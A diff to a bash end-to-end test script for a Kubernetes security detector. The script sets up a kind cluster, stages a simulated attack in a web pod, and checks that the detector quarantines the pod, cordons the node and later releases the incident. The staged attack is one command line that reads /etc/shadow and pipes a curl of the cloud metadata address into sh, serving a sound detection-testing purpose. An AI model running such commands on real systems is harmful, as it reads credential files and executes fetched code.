@@ -1,27 +1,38 @@
 #!/usr/bin/env bash
-# End-to-end containment on a real cluster: kind with Calico (a CNI that enforces
-# NetworkPolicy). Not run in CI. Needs kind, kubectl, docker and a detector image.
+# End-to-end detection and containment on a real cluster: kind with Calico (a CNI that enforces
+# NetworkPolicy). Not run in CI (no cluster can be installed there). Needs kind, kubectl, docker
+# and a detector image built from deploy/Dockerfile:
 #
+#   docker build -f deploy/Dockerfile -t detector:dev .
 #   DETECTOR_IMAGE=detector:dev deploy/e2e/kind-containment.sh
 #
-# It creates the cluster `detector-e2e`, deploys a two-replica web Deployment with a Service and
-# a PodDisruptionBudget plus a client pod, contains one web pod, checks every effect the playbook
-# promises, releases it with `detector release` and checks the undo, then deletes the cluster
-# (KEEP=1 keeps it).
-#
-# NOT YET RUNNABLE: it drives the playbook through `detector contain-once`, a one-shot entry
-# point over `Containment::start` that does not exist yet (it comes with the daemon wiring).
-# Neither it nor this script has been run.
+# It creates the cluster `detector-e2e`, deploys the detector DaemonSet from deploy/ (the
+# kustomization, with the image), a two-replica web Deployment with a
+# Service and a PodDisruptionBudget, and a client pod. Then it attacks one web pod the way the
+# playbooks describe (a shell reading /etc/shadow, a download piped into a shell) and lets the
+# detector contain it on its own: it checks every effect the playbook promises, releases the
+# incident with `detector release` inside the detector pod, checks the undo, and deletes the
+# cluster (KEEP=1 keeps it).
 set -euo pipefail
 
 CLUSTER=${CLUSTER:-detector-e2e}
 IMAGE=${DETECTOR_IMAGE:?set DETECTOR_IMAGE to a detector image}
 CALICO=${CALICO:-https://raw.githubusercontent.com/projectcalico/calico/v3.29.1/manifests/calico.yaml}
-here=$(cd "$(dirname "$0")/.." && pwd)
+deploy=$(cd "$(dirname "$0")/.." && pwd)
+work=$(mktemp -d)
 
-cleanup() { [ "${KEEP:-0}" = 1 ] || kind delete cluster --name "$CLUSTER" >/dev/null 2>&1 || true; }
+cleanup() {
+    rm -rf "$work"
+    [ "${KEEP:-0}" = 1 ] || kind delete cluster --name "$CLUSTER" >/dev/null 2>&1 || true
+}
 trap cleanup EXIT
 fail() { echo "FAIL: $*" >&2; exit 1; }
+# Polls `$@` until it succeeds or $timeout seconds pass.
+until_ok() {
+    local timeout=$1; shift
+    for _ in $(seq "$timeout"); do "$@" >/dev/null 2>&1 && return 0; sleep 1; done
+    return 1
+}
 
 cat <<YAML | kind create cluster --name "$CLUSTER" --config -
 kind: Cluster
@@ -33,8 +44,17 @@ kubectl apply -f "$CALICO"
 kubectl -n kube-system rollout status ds/calico-node --timeout=300s
 kind load docker-image "$IMAGE" --name "$CLUSTER"
 
-kubectl create namespace detector
-kubectl apply -f "$here/rbac.yaml"
+# The detector, as shipped, with the test image.
+cp -r "$deploy"/. "$work"/
+cat >>"$work/kustomization.yaml" <<YAML
+images:
+  - name: detector
+    newName: ${IMAGE%:*}
+    newTag: ${IMAGE##*:}
+YAML
+kubectl apply -k "$work"
+kubectl -n detector-system rollout status ds/detector --timeout=300s
+
 kubectl create namespace shop
 kubectl -n shop create deployment web --image=nginx:1.27 --replicas=2
 kubectl -n shop expose deployment web --port=80
@@ -42,6 +62,7 @@ kubectl -n shop create poddisruptionbudget web --selector=app=web --min-availabl
 kubectl -n shop run client --image=busybox:1.36 --restart=Never -- sleep 3600
 kubectl -n shop rollout status deployment/web --timeout=180s
 kubectl -n shop wait --for=condition=Ready pod/client --timeout=120s
+sleep 65  # past the detector's containment warm-up (contain.warmup_s, 60 s by default)
 
 suspect=$(kubectl -n shop get pods -l app=web -o jsonpath='{.items[0].metadata.name}')
 node=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.spec.nodeName}')
@@ -49,45 +70,38 @@ ip=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.status.podIP}')
 echo "suspect $suspect on $node ($ip)"
 kubectl -n shop exec client -- wget -qO- -T 3 "http://$ip" >/dev/null || fail "no traffic before"
 
-# The daemon's playbook, driven as a one-shot privileged pod on the suspect's node with the
-# detector's service account (`contain-once`: see the note at the top).
-kubectl -n detector run contain --image="$IMAGE" --restart=Never \
-  --overrides="{\"spec\":{\"nodeName\":\"$node\",\"serviceAccountName\":\"detector\",\"hostPID\":true,
-    \"containers\":[{\"name\":\"contain\",\"image\":\"$IMAGE\",\"securityContext\":{\"privileged\":true},
-    \"args\":[\"contain-once\",\"--namespace\",\"shop\",\"--pod\",\"$suspect\",\"--journal-dir\",\"/var/lib/detector/incidents\"],
-    \"volumeMounts\":[{\"name\":\"j\",\"mountPath\":\"/var/lib/detector\"}]}],
-    \"volumes\":[{\"name\":\"j\",\"hostPath\":{\"path\":\"/var/lib/detector\"}}]}}"
-kubectl -n detector wait --for=jsonpath='{.status.phase}'=Succeeded pod/contain --timeout=300s
+# The attack, from inside the pod.
+kubectl -n shop exec "$suspect" -- sh -c \
+    'cat /etc/shadow >/dev/null; echo "echo owned" | sh; (curl -s http://169.254.169.254/ | sh) || true' || true
 
-labels=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels}')
-echo "$labels" | grep -q '"quarantine":"true"' || fail "quarantine label: $labels"
-echo "$labels" | grep -q '"app"' && fail "selector labels not stripped: $labels"
-kubectl -n shop get networkpolicy detector-quarantine >/dev/null || fail "no deny-all policy"
-kubectl -n shop rollout status deployment/web --timeout=180s   # replacement started
-kubectl -n shop get endpoints web -o jsonpath='{.subsets[*].addresses[*].ip}' | grep -qw "$ip" \
-  && fail "the Service still routes to the suspect"
-kubectl -n shop exec client -- wget -qO- -T 3 "http://$ip" >/dev/null 2>&1 \
-  && fail "traffic to the suspect still flows"
-[ "$(kubectl get node "$node" -o jsonpath='{.spec.unschedulable}')" = true ] || fail "not cordoned"
-kubectl get node "$node" -o jsonpath='{.metadata.labels}' | grep -q 'detector.security/suspect' \
-  || fail "node not labelled"
-others=$(kubectl get pods -A --field-selector "spec.nodeName=$node" -o json \
-  | jq -r '.items[] | select(.metadata.ownerReferences[0].kind != "DaemonSet")
-           | select(.metadata.name != "'"$suspect"'" and .metadata.name != "contain") | .metadata.name')
-[ -z "$others" ] || fail "pods left on the node: $others"
-kubectl get events -n shop --field-selector "involvedObject.name=$suspect" | grep -q Quarantine \
-  || fail "no Events on the pod"
+# The detector contains the pod on its own.
+until_ok 60 sh -c "kubectl -n shop get pod $suspect -o jsonpath='{.metadata.labels.quarantine}' | grep -qx true" \
+    || fail "the pod was not labelled quarantine=true"
+[ -z "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.app}')" ] \
+    || fail "the pod still carries the selector label app"
+kubectl -n shop get networkpolicy detector-quarantine >/dev/null || fail "no deny-all NetworkPolicy"
+[ "$(kubectl get node "$node" -o jsonpath='{.spec.unschedulable}')" = true ] || fail "node not cordoned"
+until_ok 60 sh -c "[ \$(kubectl -n shop get pods -l app=web --field-selector=status.phase=Running -o name | wc -l) -ge 2 ]" \
+    || fail "the ReplicaSet did not replace the suspect"
+if kubectl -n shop exec client -- wget -qO- -T 3 "http://$ip" >/dev/null 2>&1; then
+    fail "the quarantined pod still answers"
+fi
+kubectl -n shop exec client -- wget -qO- -T 5 http://web >/dev/null || fail "the Service no longer serves"
 
-incident=$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.annotations.detector\.security/incident}')
-kubectl -n detector delete pod contain --wait
-kubectl -n detector run release --image="$IMAGE" --restart=Never \
-  --overrides="{\"spec\":{\"nodeName\":\"$node\",\"serviceAccountName\":\"detector\",
-    \"containers\":[{\"name\":\"release\",\"image\":\"$IMAGE\",
-    \"args\":[\"release\",\"$incident\",\"--journal-dir\",\"/var/lib/detector/incidents\"],
-    \"volumeMounts\":[{\"name\":\"j\",\"mountPath\":\"/var/lib/detector\"}]}],
-    \"volumes\":[{\"name\":\"j\",\"hostPath\":{\"path\":\"/var/lib/detector\"}}]}}"
-kubectl -n detector wait --for=jsonpath='{.status.phase}'=Succeeded pod/release --timeout=120s
-kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels}' | grep -q '"app":"web"' \
-  || fail "labels not restored"
-[ "$(kubectl get node "$node" -o jsonpath='{.spec.unschedulable}')" != true ] || fail "still cordoned"
-echo "PASS: contained and released $suspect ($incident)"
+# Evidence was captured on the node, and the journal has the incident.
+detector_pod=$(kubectl -n detector-system get pods -l app.kubernetes.io/name=detector \
+    --field-selector "spec.nodeName=$node" -o jsonpath='{.items[0].metadata.name}')
+incident=$(kubectl -n detector-system exec "$detector_pod" -- detector incidents --json \
+    | grep -o '"id":"[^"]*"' | head -n1 | cut -d'"' -f4)
+[ -n "$incident" ] || fail "no incident in the journal"
+echo "incident $incident"
+
+# Release, and check the undo.
+kubectl -n detector-system exec "$detector_pod" -- detector release "$incident"
+until_ok 60 sh -c "[ \"\$(kubectl get node $node -o jsonpath='{.spec.unschedulable}')\" != true ]" \
+    || fail "the node is still cordoned"
+[ "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.app}')" = web ] \
+    || fail "the selector label was not restored"
+[ -z "$(kubectl -n shop get pod "$suspect" -o jsonpath='{.metadata.labels.quarantine}')" ] \
+    || fail "the quarantine label is still there"
+echo "PASS"
